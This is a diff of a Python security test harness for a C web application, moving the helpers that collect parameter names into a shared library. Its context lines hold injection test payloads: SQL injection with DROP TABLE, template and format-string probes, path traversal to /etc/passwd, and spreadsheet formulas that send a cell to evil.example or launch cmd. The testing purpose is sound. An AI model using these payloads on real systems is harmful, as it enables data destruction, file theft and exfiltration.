@@ -15,7 +15,7 @@ import sys
 import urllib.parse
 
 sys.path.insert(0, os.path.dirname(__file__))
-from seclib import IND, Client, Server, Tap, free_tmp, innomon, make_store, routes, sql  # noqa: E402
+from seclib import IND, Client, Server, Tap, body_fields, free_tmp, innomon, make_store, query_params, routes, sql  # noqa: E402,E501
 
 BIN, ROOT = sys.argv[1], sys.argv[2]
 T = Tap()
@@ -24,26 +24,6 @@ STATS = {}
 PAYLOADS = ["' OR '1'='1", "1; DROP TABLE observations; --", "\") OR 1=1 --", "${7*7}{{7*7}}%s%n", "..%2f..%2fetc%2fpasswd"]
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
-
-
-def query_names():
-    names = set()
-    for dirpath, _, files in os.walk(os.path.join(ROOT, "src/web")):
-        for f in files:
-            if f.endswith(".c"):
-                names.update(re.findall(r'req_query\(r, "([a-z_]+)"\)', open(os.path.join(dirpath, f)).read()))
-    return sorted(names)
-
-
-def form_names():
-    names = set()
-    for dirpath, _, files in os.walk(os.path.join(ROOT, "src/web")):
-        for f in files:
-            if f.endswith(".c"):
-                names.update(re.findall(r'req_form(?:_all)?\(r, "([a-z_]+)"', open(os.path.join(dirpath, f)).read()))
-                for m in re.findall(r'fields\[\] = \{([^}]*)\}', open(os.path.join(dirpath, f)).read()):
-                    names.update(re.findall(r'"([a-z_]+)"', m))
-    return sorted(names - {"csrf"})
 
 
 def store_state(db):
@@ -99,8 +79,8 @@ def main():
         before = store_state(db)
         admin = Client(srv.port, "admin")
         anon = Client(srv.port)
-        qnames = query_names()
-        fnames = form_names()
+        qnames = query_params(ROOT)
+        fnames = body_fields(ROOT)
         T.check(len(qnames) > 20 and len(fnames) > 40, "the parameter names are found in src/web (%d query, %d body)"
                 % (len(qnames), len(fnames)))
         fivexx, n = [], 0
